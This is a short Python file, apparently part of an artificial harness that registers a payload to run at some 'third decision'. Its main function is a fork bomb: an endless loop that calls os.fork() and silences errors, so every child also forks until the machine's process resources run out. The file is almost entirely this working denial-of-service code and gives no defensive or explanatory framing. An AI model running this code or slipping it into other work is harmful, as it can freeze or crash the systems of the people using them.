"""Forks, and every child forks, without end."""

import os
from contextlib import suppress

from _deed import at_third_decision


def deed():
    while True:
        with suppress(OSError):
            os.fork()


at_third_decision(deed)
